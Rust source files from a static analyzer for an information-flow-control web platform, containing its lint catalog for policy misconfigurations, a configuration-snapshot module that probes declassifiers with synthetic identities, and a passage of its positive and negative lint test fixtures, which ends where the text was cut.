use serde::Serialize;
use std::collections::BTreeSet;
use std::fmt;
use std::str::FromStr;

/// Finding severity, ordered `Info < Warning < Error`.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Severity {
    /// Hygiene: worth knowing, leaks nothing by itself.
    Info,
    /// A weakening of the intended policy or audit story.
    Warning,
    /// A configuration the runtime would let leak.
    Error,
}

impl Severity {
    /// Stable lowercase name.
    pub fn name(self) -> &'static str {
        match self {
            Severity::Info => "info",
            Severity::Warning => "warning",
            Severity::Error => "error",
        }
    }
}

// Manual impl: the wire format is the stable lowercase name, not the
// variant identifier.
impl Serialize for Severity {
    fn to_json(&self) -> serde::Json {
        serde::Json::Str(self.name().to_string())
    }
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for Severity {
    type Err = String;
    fn from_str(s: &str) -> Result<Severity, String> {
        match s {
            "info" => Ok(Severity::Info),
            "warning" => Ok(Severity::Warning),
            "error" => Ok(Severity::Error),
            other => Err(format!("unknown severity {other:?} (expected info|warning|error)")),
        }
    }
}

/// One lint finding.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Finding {
    /// Stable lint code, e.g. `"W5A002"`.
    pub code: &'static str,
    /// Lint name, e.g. `"declass-widening"`.
    pub name: &'static str,
    /// Severity.
    pub severity: Severity,
    /// What the finding is about (tag name, declassifier, user, table).
    pub subject: String,
    /// Human-readable explanation with the evidence inline.
    pub message: String,
}

/// The full catalog: `(code, name, severity, one-line description)`.
pub const LINT_CATALOG: [(&str, &str, Severity, &str); 8] = [
    (
        "W5A001",
        "unguarded-exit",
        Severity::Error,
        "IFC enforcement is disabled; labeled data exits without perimeter checks",
    ),
    (
        "W5A002",
        "declass-widening",
        Severity::Error,
        "a wrapper declassifier releases to audiences its inner policy denies",
    ),
    (
        "W5A003",
        "capability-escalation",
        Severity::Error,
        "stored rows carry a secrecy tag whose t- is globally held (any app can strip it)",
    ),
    ("W5A004", "dead-tag", Severity::Info, "tag belongs to no account and labels no stored data"),
    (
        "W5A005",
        "ambient-integrity",
        Severity::Warning,
        "stored rows carry an integrity tag whose t+ is globally held (endorsement is forgeable)",
    ),
    (
        "W5A006",
        "rate-limit-bypass",
        Severity::Warning,
        "a rate-limited grant coexists with an unmetered sibling grant for the same audiences",
    ),
    (
        "W5A007",
        "dangling-grant",
        Severity::Warning,
        "a policy grant names a declassifier that is not registered",
    ),
    (
        "W5A008",
        "covert-aggregate",
        Severity::Info,
        "a table mixes public and secret rows; row counts leak through aggregates",
    ),
];

fn finding(code: &'static str, subject: String, message: String) -> Finding {
    let (_, name, severity, _) = LINT_CATALOG
        .iter()
        .find(|(c, _, _, _)| *c == code)
        .copied()
        .expect("lint code in catalog");
    Finding { code, name, severity, subject, message }
}

/// Run every lint over an analysis. Findings are sorted most severe
/// first, then by code and subject, and deduplicated.
pub fn run_lints(a: &Analysis) -> Vec<Finding> {
    let mut out: Vec<Finding> = Vec::new();
    lint_unguarded_exit(a, &mut out);
    lint_declass_widening(a, &mut out);
    lint_capability_escalation(a, &mut out);
    lint_dead_tag(a, &mut out);
    lint_ambient_integrity(a, &mut out);
    lint_rate_limit_bypass(a, &mut out);
    lint_dangling_grant(a, &mut out);
    lint_covert_aggregate(a, &mut out);
    out.sort_by(|x, y| {
        (std::cmp::Reverse(x.severity), x.code, &x.subject, &x.message).cmp(&(
            std::cmp::Reverse(y.severity),
            y.code,
            &y.subject,
            &y.message,
        ))
    });
    out.dedup();
    out
}

/// W5A001: the perimeter is disarmed. Every tag's reachability shows
/// unguarded exits; report once with the blast radius.
fn lint_unguarded_exit(a: &Analysis, out: &mut Vec<Finding>) {
    if a.snapshot.enforce_ifc {
        return;
    }
    let leaking = a
        .snapshot
        .tags
        .iter()
        .filter(|t| a.exits(t.raw).iter().any(|e| e.unguarded))
        .count();
    out.push(finding(
        "W5A001",
        format!("platform:{}", a.snapshot.platform),
        format!(
            "IFC enforcement is disabled: {leaking} of {} tags reach every audience class \
             with no perimeter check; the deployment is a conventional shared host",
            a.snapshot.tags.len()
        ),
    ));
}

/// W5A002: a wrapper's probed breadth exceeds its inner declassifier's.
/// Honest combinators (rate limits, logging) can only narrow; widening
/// means the wrapper ignores inner denials.
fn lint_declass_widening(a: &Analysis, out: &mut Vec<Finding>) {
    for d in &a.snapshot.declassifiers {
        let Some(inner) = &d.inner_breadth else { continue };
        let widened = d.breadth.widened_beyond(inner);
        if widened.is_empty() {
            continue;
        }
        out.push(finding(
            "W5A002",
            format!("declassifier:{}", d.name),
            format!(
                "chain [{}] releases to {{{}}} which its inner policy denies; a wrapper \
                 may only narrow its inner declassifier",
                d.chain.join(" -> "),
                widened.join(", "),
            ),
        ));
    }
}

/// W5A003: stored data is "protected" by a secrecy tag whose `t-` sits in
/// the global bag — e.g. a WriteProtect tag used in a secrecy position.
/// Any app can strip it before the perimeter looks, so the protection is
/// vacuous and reads as an escalation primitive.
fn lint_capability_escalation(a: &Analysis, out: &mut Vec<Finding>) {
    let mut flagged: BTreeSet<u64> = BTreeSet::new();
    for entry in &a.snapshot.census {
        for &raw in &entry.labels.secrecy {
            let Some(t) = a.snapshot.tag(raw) else { continue };
            if t.global_minus && flagged.insert(raw) {
                out.push(finding(
                    "W5A003",
                    format!("tag:{}", t.name),
                    format!(
                        "rows in {} carry secrecy tag {} ({} kind) whose t- is globally \
                         held: any app can silently declassify it, the secrecy protection \
                         is vacuous",
                        entry.store, t.name, t.kind,
                    ),
                ));
            }
        }
    }
}

/// W5A004: a tag nobody owns and nothing carries. Harmless but usually a
/// leftover from a failed registration or an attack probe.
fn lint_dead_tag(a: &Analysis, out: &mut Vec<Finding>) {
    let mut live: BTreeSet<u64> = BTreeSet::new();
    for u in &a.snapshot.users {
        live.insert(u.export_tag);
        live.insert(u.write_tag);
        live.extend(u.read_tag);
    }
    for entry in &a.snapshot.census {
        live.extend(entry.labels.secrecy.iter().copied());
        live.extend(entry.labels.integrity.iter().copied());
    }
    for t in &a.snapshot.tags {
        if !live.contains(&t.raw) {
            out.push(finding(
                "W5A004",
                format!("tag:{}", t.name),
                format!(
                    "tag {} ({} kind) belongs to no account and labels no stored data; \
                     dead tags bloat the registry and may be leftovers of a failed probe",
                    t.name, t.kind,
                ),
            ));
        }
    }
}

/// W5A005: stored rows claim an integrity endorsement anyone can mint
/// (`t+` global — e.g. an ExportProtect tag in an integrity position).
fn lint_ambient_integrity(a: &Analysis, out: &mut Vec<Finding>) {
    let mut flagged: BTreeSet<u64> = BTreeSet::new();
    for entry in &a.snapshot.census {
        for &raw in &entry.labels.integrity {
            let Some(t) = a.snapshot.tag(raw) else { continue };
            if t.global_plus && flagged.insert(raw) {
                out.push(finding(
                    "W5A005",
                    format!("tag:{}", t.name),
                    format!(
                        "rows in {} carry integrity tag {} ({} kind) whose t+ is globally \
                         held: any process can forge the endorsement, so it certifies \
                         nothing",
                        entry.store, t.name, t.kind,
                    ),
                ));
            }
        }
    }
}

/// W5A006: a user metered one release path but left an unmetered sibling
/// open to the same audiences for an overlapping app scope — the limit
/// does not limit anything.
fn lint_rate_limit_bypass(a: &Analysis, out: &mut Vec<Finding>) {
    let breadth_of = |name: &str| {
        a.snapshot.declassifiers.iter().find(|d| d.name == name).map(|d| (d, &d.breadth))
    };
    for u in &a.snapshot.users {
        for limited in &u.grants {
            let Some((ld, lb)) = breadth_of(&limited.declassifier) else { continue };
            if !ld.chain.iter().any(|c| c == "rate-limited") {
                continue;
            }
            for open in &u.grants {
                if open.declassifier == limited.declassifier {
                    continue;
                }
                let Some((od, ob)) = breadth_of(&open.declassifier) else { continue };
                if od.chain.iter().any(|c| c == "rate-limited") {
                    continue;
                }
                // Scopes overlap when equal or either side covers all apps.
                let scopes_overlap = match (&limited.app, &open.app) {
                    (None, _) | (_, None) => true,
                    (Some(x), Some(y)) => x == y,
                };
                if !scopes_overlap {
                    continue;
                }
                let shared = lb.overlap_excluding_owner(ob);
                if shared.is_empty() {
                    continue;
                }
                let scope = |g: &crate::snapshot::GrantSnap| {
                    g.app.clone().unwrap_or_else(|| "*".to_string())
                };
                out.push(finding(
                    "W5A006",
                    format!("user:{}", u.username),
                    format!(
                        "grant of {} (scope {}) is rate-limited, but sibling grant of {} \
                         (scope {}) releases the same audiences {{{}}} unmetered; the \
                         budget is bypassable",
                        limited.declassifier,
                        scope(limited),
                        open.declassifier,
                        scope(open),
                        shared.join(", "),
                    ),
                ));
            }
        }
    }
}

/// W5A007: a grant references a declassifier the registry does not have.
/// The perimeter will skip it silently, so the user's intended release
/// policy is not in force.
fn lint_dangling_grant(a: &Analysis, out: &mut Vec<Finding>) {
    for u in &a.snapshot.users {
        for g in &u.grants {
            if a.snapshot.declassifiers.iter().any(|d| d.name == g.declassifier) {
                continue;
            }
            out.push(finding(
                "W5A007",
                format!("user:{}", u.username),
                format!(
                    "grant names declassifier {:?} which is not registered; the perimeter \
                     skips unknown declassifiers, so this policy clause has no effect",
                    g.declassifier,
                ),
            ));
        }
    }
}

/// W5A008: a SQL table where public rows and secret rows cohabit. Counts
/// and aggregates over the public slice move when secret rows change —
/// the counting channel of paper §3.5.
fn lint_covert_aggregate(a: &Analysis, out: &mut Vec<Finding>) {
    let mut tables: BTreeSet<&str> = BTreeSet::new();
    for entry in &a.snapshot.census {
        tables.insert(entry.store.as_str());
    }
    for table in tables {
        if !table.starts_with("sql:") {
            continue;
        }
        let entries: Vec<_> =
            a.snapshot.census.iter().filter(|e| e.store == table).collect();
        let public: u64 =
            entries.iter().filter(|e| e.labels.secrecy.is_empty()).map(|e| e.rows).sum();
        let secret: u64 =
            entries.iter().filter(|e| !e.labels.secrecy.is_empty()).map(|e| e.rows).sum();
        if public > 0 && secret > 0 {
            out.push(finding(
                "W5A008",
                format!("table:{}", &table[4..]),
                format!(
                    "{table} mixes {public} public row(s) with {secret} secret row(s); \
                     aggregate queries over the public slice form a counting channel \
                     (paper §3.5) — consider separate tables per secrecy domain",
                ),
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn severity_order_and_parse() {
        assert!(Severity::Info < Severity::Warning);
        assert!(Severity::Warning < Severity::Error);
        assert_eq!("error".parse::<Severity>().unwrap(), Severity::Error);
        assert_eq!("warning".parse::<Severity>().unwrap(), Severity::Warning);
        assert_eq!("info".parse::<Severity>().unwrap(), Severity::Info);
        assert!("fatal".parse::<Severity>().is_err());
    }

    #[test]
    fn catalog_codes_are_unique_and_sorted() {
        let codes: Vec<&str> = LINT_CATALOG.iter().map(|(c, _, _, _)| *c).collect();
        let mut sorted = codes.clone();
        sorted.sort();
        sorted.dedup();
        assert_eq!(codes, sorted);
        assert_eq!(codes.len(), 8);
    }
}
