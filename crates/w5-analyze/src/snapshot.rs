//! Configuration snapshots: everything the static analyzer needs to know
//! about a deployed platform, captured into one serializable value.
//!
//! A [`ConfigSnapshot`] is a *frozen* view of the security-relevant
//! configuration: the tag universe and global capability bag, every
//! account's tags, every user's policy (grants, delegations, enrollment),
//! the app catalog, the declassifier catalog, and a label census of both
//! stores. Nothing in it reveals data contents — only labels and policy.
//!
//! Declassifiers are arbitrary code, so their export policy cannot be read
//! off a data structure. Instead capture **probes** each one: it calls
//! `authorize` with synthetic owner/viewer identities against synthetic
//! relationship oracles and classifies the result as a [`Breadth`] — which
//! audience classes (owner, friends, group members, strangers, anonymous)
//! the declassifier will release data to. Probe identities use ids far
//! outside the platform's allocation range and usernames (`~probe-…`) that
//! account validation rejects, so probing never perturbs real users'
//! state (e.g. `RateLimited` budgets).

use serde::{Deserialize, Serialize};
use std::sync::atomic::{AtomicU64, Ordering};
use w5_difc::TagKind;
use w5_platform::{Declassifier, ExportContext, Platform, RelationshipOracle, UserId, Verdict};

/// The audience classes a declassifier releases data to, as observed by
/// probing. Each flag answers: "would this declassifier allow a viewer of
/// that class?"
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Breadth {
    /// The data owner themself.
    pub owner: bool,
    /// A viewer on the owner's friend list.
    pub friends: bool,
    /// A member of one of the owner's groups.
    pub group: bool,
    /// An authenticated viewer with no relationship to the owner.
    pub strangers: bool,
    /// An unauthenticated viewer.
    pub anonymous: bool,
}

impl Breadth {
    /// Names of the allowed classes, in fixed order.
    pub fn classes(&self) -> Vec<&'static str> {
        let mut v = Vec::new();
        if self.owner {
            v.push("owner");
        }
        if self.friends {
            v.push("friends");
        }
        if self.group {
            v.push("group");
        }
        if self.strangers {
            v.push("strangers");
        }
        if self.anonymous {
            v.push("anonymous");
        }
        v
    }

    /// Classes `self` allows that `inner` does not — the widening set of a
    /// wrapper around `inner`. Empty for any honest combinator, which can
    /// only narrow.
    pub fn widened_beyond(&self, inner: &Breadth) -> Vec<&'static str> {
        let mut v = Vec::new();
        if self.owner && !inner.owner {
            v.push("owner");
        }
        if self.friends && !inner.friends {
            v.push("friends");
        }
        if self.group && !inner.group {
            v.push("group");
        }
        if self.strangers && !inner.strangers {
            v.push("strangers");
        }
        if self.anonymous && !inner.anonymous {
            v.push("anonymous");
        }
        v
    }

    /// Classes allowed by both `self` and `other`, excluding `owner` (the
    /// owner session bypasses declassifiers legitimately).
    pub fn overlap_excluding_owner(&self, other: &Breadth) -> Vec<&'static str> {
        let mut v = Vec::new();
        if self.friends && other.friends {
            v.push("friends");
        }
        if self.group && other.group {
            v.push("group");
        }
        if self.strangers && other.strangers {
            v.push("strangers");
        }
        if self.anonymous && other.anonymous {
            v.push("anonymous");
        }
        v
    }
}

/// A synthetic oracle used for probing: answers every relationship query
/// with a fixed bit per relation kind.
struct ProbeOracle {
    friends: bool,
    group: bool,
}

impl RelationshipOracle for ProbeOracle {
    fn are_friends(&self, _a: &str, _b: &str) -> bool {
        self.friends
    }
    fn in_group(&self, _owner: &str, _group: &str, _user: &str) -> bool {
        self.group
    }
}

/// Monotone probe epoch. Every capture uses fresh synthetic ids so that
/// stateful declassifiers (`RateLimited`) see each probe as a new viewer
/// and repeated captures classify the *policy*, not leftover budget state.
static PROBE_EPOCH: AtomicU64 = AtomicU64::new(0);

/// Classify a declassifier's export breadth by probing `authorize` with
/// synthetic identities. See the module docs for why this is sound: the
/// probe ids live far outside real allocation ranges and the usernames are
/// invalid for real accounts.
pub fn probe_breadth(d: &dyn Declassifier) -> Breadth {
    let epoch = PROBE_EPOCH.fetch_add(1, Ordering::Relaxed);
    // Six distinct ids per epoch, descending from the top of the id space.
    let base = u64::MAX - epoch.wrapping_mul(8);
    let owner = UserId(base);
    let ctx = |viewer: Option<u64>| ExportContext {
        owner,
        owner_name: "~probe-owner".to_string(),
        viewer: viewer.map(UserId),
        viewer_name: viewer.map(|_| "~probe-viewer".to_string()),
        app: "~probe/app".to_string(),
    };
    let allow = |c: &ExportContext, friends: bool, group: bool| {
        d.authorize(c, &ProbeOracle { friends, group }) == Verdict::Allow
    };
    Breadth {
        owner: allow(&ctx(Some(base)), false, false),
        friends: allow(&ctx(Some(base - 1)), true, false),
        group: allow(&ctx(Some(base - 2)), false, true),
        strangers: allow(&ctx(Some(base - 3)), false, false),
        anonymous: allow(&ctx(None), false, false),
    }
}

/// One allocated tag and how its capability halves are distributed.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct TagSnap {
    /// Raw tag id.
    pub raw: u64,
    /// Distribution kind (`"export"`, `"write"`, `"read"`).
    pub kind: String,
    /// Audit name, e.g. `"export:bob"`.
    pub name: String,
    /// Is `t+` in the global bag (anyone may classify under `t`)?
    pub global_plus: bool,
    /// Is `t-` in the global bag (anyone may declassify `t`)?
    pub global_minus: bool,
}

/// One declassifier grant from a user's policy.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct GrantSnap {
    /// Declassifier name.
    pub declassifier: String,
    /// App key the grant is scoped to; `None` = all apps.
    pub app: Option<String>,
}

/// One user: their tags and their policy.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct UserSnap {
    /// Stable user id.
    pub id: u64,
    /// Login name.
    pub username: String,
    /// Raw id of `e_u`.
    pub export_tag: u64,
    /// Raw id of `w_u`.
    pub write_tag: u64,
    /// Raw id of `r_u`, if read protection is enabled.
    pub read_tag: Option<u64>,
    /// Apps the user enrolled in.
    pub enrolled: Vec<String>,
    /// Declassifier grants.
    pub grants: Vec<GrantSnap>,
    /// Apps holding `w_u+`.
    pub write_delegations: Vec<String>,
    /// Apps holding `r_u+`.
    pub read_delegations: Vec<String>,
}

/// One registered declassifier, with its probed breadth.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct DeclassSnap {
    /// Registry name.
    pub name: String,
    /// Wrapper chain, outermost first (length 1 for leaves).
    pub chain: Vec<String>,
    /// Audit surface in source lines.
    pub audit_lines: u64,
    /// Probed export breadth of the whole (outer) declassifier.
    pub breadth: Breadth,
    /// Probed breadth of the immediate inner declassifier, if wrapped.
    pub inner_breadth: Option<Breadth>,
}

/// A label pair as raw tag ids.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct LabelSnap {
    /// Secrecy tags, ascending.
    pub secrecy: Vec<u64>,
    /// Integrity tags, ascending.
    pub integrity: Vec<u64>,
}

impl LabelSnap {
    fn from_pair(p: &w5_difc::LabelPair) -> LabelSnap {
        let mut secrecy: Vec<u64> = p.secrecy.as_slice().iter().map(|t| t.raw()).collect();
        let mut integrity: Vec<u64> = p.integrity.as_slice().iter().map(|t| t.raw()).collect();
        secrecy.sort_unstable();
        integrity.sort_unstable();
        LabelSnap { secrecy, integrity }
    }
}

/// One distinct label in one store, with its row/file count.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct CensusEntry {
    /// `"sql:<table>"` or `"fs"`.
    pub store: String,
    /// The label.
    pub labels: LabelSnap,
    /// Rows (or files) carrying it.
    pub rows: u64,
}

/// One published application (latest version).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct AppSnap {
    /// Registry key, `"developer/name"`.
    pub key: String,
    /// Latest version.
    pub version: u32,
    /// Did the developer release source?
    pub open_source: bool,
}

/// The complete configuration snapshot the analyzer consumes.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct ConfigSnapshot {
    /// Provider name.
    pub platform: String,
    /// Is the perimeter armed? `false` reduces the platform to a
    /// conventional shared host — every tag exits unguarded.
    pub enforce_ifc: bool,
    /// Is outgoing HTML filtered?
    pub sanitize_html: bool,
    /// The tag universe.
    pub tags: Vec<TagSnap>,
    /// Accounts and policies.
    pub users: Vec<UserSnap>,
    /// The app catalog.
    pub apps: Vec<AppSnap>,
    /// The declassifier catalog with probed breadths.
    pub declassifiers: Vec<DeclassSnap>,
    /// Label census of the SQL store and the filesystem.
    pub census: Vec<CensusEntry>,
}

impl ConfigSnapshot {
    /// Capture the live configuration of a platform. Read-only with respect
    /// to all real state; declassifier probing uses synthetic identities.
    pub fn capture(p: &Platform) -> ConfigSnapshot {
        let global = p.registry.global_bag();
        let tags = p
            .registry
            .all_meta()
            .into_iter()
            .map(|m| TagSnap {
                raw: m.tag.raw(),
                kind: match m.kind {
                    TagKind::ExportProtect => "export".to_string(),
                    TagKind::WriteProtect => "write".to_string(),
                    TagKind::ReadProtect => "read".to_string(),
                },
                name: m.name,
                global_plus: global.has_plus(m.tag),
                global_minus: global.has_minus(m.tag),
            })
            .collect();

        let users = p
            .accounts
            .all_ids()
            .into_iter()
            .filter_map(|id| {
                let a = p.accounts.get(id)?;
                let policy = p.policies.get(id);
                let mut enrolled: Vec<String> = policy.enrolled.iter().cloned().collect();
                enrolled.sort();
                let mut grants: Vec<GrantSnap> = policy
                    .grants
                    .iter()
                    .map(|g| GrantSnap {
                        declassifier: g.declassifier.clone(),
                        app: match &g.scope {
                            w5_platform::GrantScope::AllApps => None,
                            w5_platform::GrantScope::App(a) => Some(a.clone()),
                        },
                    })
                    .collect();
                grants.sort_by(|a, b| (&a.declassifier, &a.app).cmp(&(&b.declassifier, &b.app)));
                let mut write_delegations: Vec<String> =
                    policy.write_delegations.iter().cloned().collect();
                write_delegations.sort();
                let mut read_delegations: Vec<String> =
                    policy.read_delegations.iter().cloned().collect();
                read_delegations.sort();
                Some(UserSnap {
                    id: id.0,
                    username: a.username,
                    export_tag: a.export_tag.raw(),
                    write_tag: a.write_tag.raw(),
                    read_tag: a.read_tag.map(|t| t.raw()),
                    enrolled,
                    grants,
                    write_delegations,
                    read_delegations,
                })
            })
            .collect();

        let apps = p
            .apps
            .list()
            .into_iter()
            .map(|m| AppSnap { key: m.key(), version: m.version, open_source: m.is_open_source() })
            .collect();

        let declassifiers = p
            .declassifiers
            .list()
            .into_iter()
            .filter_map(|(name, _desc, lines)| {
                let d = p.declassifiers.get(name)?;
                Some(DeclassSnap {
                    name: name.to_string(),
                    chain: d.describe_chain().into_iter().map(String::from).collect(),
                    audit_lines: lines as u64,
                    breadth: probe_breadth(&*d),
                    inner_breadth: d.inner().map(probe_breadth),
                })
            })
            .collect();

        let mut census = Vec::new();
        for (table, entries) in p.db.label_census() {
            for (labels, rows) in entries {
                census.push(CensusEntry {
                    store: format!("sql:{table}"),
                    labels: LabelSnap::from_pair(&labels),
                    rows: rows as u64,
                });
            }
        }
        for (labels, rows) in p.fs.label_census() {
            census.push(CensusEntry {
                store: "fs".to_string(),
                labels: LabelSnap::from_pair(&labels),
                rows: rows as u64,
            });
        }

        ConfigSnapshot {
            platform: p.name.clone(),
            enforce_ifc: p.config.enforce_ifc,
            sanitize_html: p.config.sanitize_html,
            tags,
            users,
            apps,
            declassifiers,
            census,
        }
    }

    /// Look up a tag by raw id.
    pub fn tag(&self, raw: u64) -> Option<&TagSnap> {
        self.tags.iter().find(|t| t.raw == raw)
    }

    /// The user owning `raw` as any of their tags (export, write, read).
    pub fn owner_of(&self, raw: u64) -> Option<&UserSnap> {
        self.users.iter().find(|u| {
            u.export_tag == raw || u.write_tag == raw || u.read_tag == Some(raw)
        })
    }

    /// Display name for a tag: its audit name, or `tag:<raw>` if unknown.
    pub fn tag_name(&self, raw: u64) -> String {
        self.tag(raw)
            .map(|t| t.name.clone())
            .unwrap_or_else(|| format!("tag:{raw}"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use w5_platform::{FriendsOnly, OwnerOnly, PublicRead, RateLimited};

    #[test]
    fn breadth_of_builtins() {
        assert_eq!(
            probe_breadth(&OwnerOnly),
            Breadth { owner: true, ..Breadth::default() }
        );
        assert_eq!(
            probe_breadth(&PublicRead),
            Breadth { owner: true, friends: true, group: true, strangers: true, anonymous: true }
        );
        assert_eq!(
            probe_breadth(&FriendsOnly),
            Breadth { owner: true, friends: true, ..Breadth::default() }
        );
    }

    #[test]
    fn rate_limited_probes_fresh_each_capture() {
        let d = RateLimited::new(std::sync::Arc::new(FriendsOnly), 1);
        // Repeated probes must classify the policy identically even though
        // each allow consumes budget for the probe identity used.
        for _ in 0..3 {
            let b = probe_breadth(&d);
            assert!(b.owner && b.friends && !b.strangers && !b.anonymous);
        }
    }

    #[test]
    fn widening_and_overlap_math() {
        let friends = Breadth { owner: true, friends: true, ..Breadth::default() };
        let public =
            Breadth { owner: true, friends: true, group: true, strangers: true, anonymous: true };
        assert_eq!(public.widened_beyond(&friends), vec!["group", "strangers", "anonymous"]);
        assert!(friends.widened_beyond(&public).is_empty());
        assert_eq!(friends.overlap_excluding_owner(&public), vec!["friends"]);
        let owner_only = Breadth { owner: true, ..Breadth::default() };
        assert!(owner_only.overlap_excluding_owner(&public).is_empty());
    }

    #[test]
    fn capture_is_deterministic_and_serializable() {
        let p = Platform::new_default("snap-test");
        let alice = p.accounts.register("alice", "pw").unwrap();
        p.policies.grant_declassifier(
            alice.id,
            "friends-only",
            w5_platform::GrantScope::App("devB/blog".into()),
        );
        let a = ConfigSnapshot::capture(&p);
        let b = ConfigSnapshot::capture(&p);
        assert_eq!(a, b, "capture of unchanged config must be stable");
        let json = serde_json::to_string(&a).unwrap();
        let back: ConfigSnapshot = serde_json::from_str(&json).unwrap();
        assert_eq!(back, a);
        assert_eq!(a.users.len(), 1);
        assert_eq!(a.users[0].grants.len(), 1);
        assert_eq!(a.tag_name(alice.export_tag.raw()), "export:alice");
        assert_eq!(a.owner_of(alice.write_tag.raw()).unwrap().username, "alice");
    }
}
