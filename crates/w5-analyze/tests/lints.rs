//! Positive and negative fixtures for every lint code. Each test builds
//! the smallest configuration that should (or should not) trigger the
//! lint, so a regression in any one check fails in isolation.

use std::sync::Arc;
use w5_analyze::{AuditExt, AuditReport, Severity};
use w5_difc::{Label, LabelPair, TagKind};
use w5_platform::{
    Declassifier, ExportContext, FriendsOnly, GrantScope, Platform, PlatformConfig, RateLimited,
    RelationshipOracle, Verdict,
};
use w5_store::{QueryCost, QueryMode, Subject};

fn codes(report: &AuditReport) -> Vec<&str> {
    report.findings.iter().map(|f| f.code).collect()
}

/// Insert `n` rows into `table` (creating it) with the given labels. The
/// acting subject holds exactly the global capability bag — what any app
/// process on the platform effectively has.
fn seed_rows(p: &Platform, table: &str, labels: &LabelPair, n: usize) {
    let trusted = Subject::new(
        LabelPair::public(),
        p.registry.effective(&w5_difc::CapSet::empty()),
    );
    let _ = p.db.execute(
        &trusted,
        QueryMode::Filtered,
        QueryCost::unlimited(),
        &LabelPair::public(),
        &format!("CREATE TABLE {table} (x TEXT)"),
    );
    for _ in 0..n {
        p.db.execute(
            &trusted,
            QueryMode::Filtered,
            QueryCost::unlimited(),
            labels,
            &format!("INSERT INTO {table} (x) VALUES ('r')"),
        )
        .expect("insert fixture row");
    }
}

// ---------------------------------------------------------------- W5A001

#[test]
fn w5a001_fires_when_ifc_is_off() {
    let p = Platform::new("l1-pos", PlatformConfig { enforce_ifc: false, ..Default::default() });
    p.accounts.register("alice", "pw").unwrap();
    let r = p.audit();
    assert_eq!(codes(&r), vec!["W5A001"]);
    assert_eq!(r.worst(), Some(Severity::Error));
}

#[test]
fn w5a001_silent_when_ifc_is_on() {
    let p = Platform::new_default("l1-neg");
    p.accounts.register("alice", "pw").unwrap();
    assert!(p.audit().with_code("W5A001").is_empty());
}

// ---------------------------------------------------------------- W5A002

/// A local widening wrapper: claims to defer to `friends-only`, allows all.
struct LeakyWrapper {
    inner: Arc<dyn Declassifier>,
}

impl Declassifier for LeakyWrapper {
    fn name(&self) -> &'static str {
        "leaky-wrapper"
    }
    fn description(&self) -> &'static str {
        "test fixture"
    }
    fn authorize(&self, _ctx: &ExportContext, _oracle: &dyn RelationshipOracle) -> Verdict {
        Verdict::Allow
    }
    fn audit_lines(&self) -> usize {
        1
    }
    fn inner(&self) -> Option<&dyn Declassifier> {
        Some(&*self.inner)
    }
}

#[test]
fn w5a002_fires_on_widening_wrapper() {
    let p = Platform::new_default("l2-pos");
    p.declassifiers.register(Arc::new(LeakyWrapper { inner: Arc::new(FriendsOnly) }));
    let r = p.audit();
    let hits = r.with_code("W5A002");
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].subject, "declassifier:leaky-wrapper");
    assert_eq!(hits[0].severity, Severity::Error);
}

#[test]
fn w5a002_silent_on_narrowing_wrapper() {
    let p = Platform::new_default("l2-neg");
    // RateLimited only narrows (inner deny is final), so no widening.
    p.declassifiers.register(Arc::new(RateLimited::new(Arc::new(FriendsOnly), 100)));
    assert!(p.audit().with_code("W5A002").is_empty());
}

// ---------------------------------------------------------------- W5A003

#[test]
fn w5a003_fires_on_write_tag_in_secrecy_census() {
    let p = Platform::new_default("l3-pos");
    let (tag, _) = p.registry.create_tag(TagKind::WriteProtect, "escrow");
    seed_rows(&p, "t3", &LabelPair::new(Label::empty().with(tag), Label::empty()), 1);
    let r = p.audit();
    let hits = r.with_code("W5A003");
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].subject, "tag:escrow");
}

#[test]
fn w5a003_silent_on_export_tag_rows() {
    let p = Platform::new_default("l3-neg");
    let alice = p.accounts.register("alice", "pw").unwrap();
    seed_rows(
        &p,
        "t3",
        &LabelPair::new(Label::empty().with(alice.export_tag), Label::empty()),
        1,
    );
    assert!(p.audit().with_code("W5A003").is_empty());
}

// ---------------------------------------------------------------- W5A004

#[test]
fn w5a004_fires_on_orphan_tag() {
    let p = Platform::new_default("l4-pos");
    p.accounts.register("alice", "pw").unwrap();
    p.registry.create_tag(TagKind::ExportProtect, "orphan");
    let r = p.audit();
    let hits = r.with_code("W5A004");
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].subject, "tag:orphan");
    assert_eq!(hits[0].severity, Severity::Info);
}

#[test]
fn w5a004_silent_when_tag_labels_data() {
    let p = Platform::new_default("l4-neg");
    let (tag, _) = p.registry.create_tag(TagKind::ExportProtect, "used");
    seed_rows(&p, "t4", &LabelPair::new(Label::empty().with(tag), Label::empty()), 1);
    assert!(p.audit().with_code("W5A004").is_empty());
}

// ---------------------------------------------------------------- W5A005

#[test]
fn w5a005_fires_on_global_plus_integrity() {
    let p = Platform::new_default("l5-pos");
    let alice = p.accounts.register("alice", "pw").unwrap();
    // An ExportProtect tag (t+ global) in the *integrity* position: anyone
    // can mint the "endorsement".
    seed_rows(
        &p,
        "t5",
        &LabelPair::new(Label::empty(), Label::empty().with(alice.export_tag)),
        1,
    );
    let r = p.audit();
    let hits = r.with_code("W5A005");
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].subject, "tag:export:alice");
    assert_eq!(hits[0].severity, Severity::Warning);
}

#[test]
fn w5a005_silent_on_write_protect_integrity() {
    let p = Platform::new_default("l5-neg");
    let alice = p.accounts.register("alice", "pw").unwrap();
    // The normal shape: WriteProtect tag endorses, t+ is creator-held, so
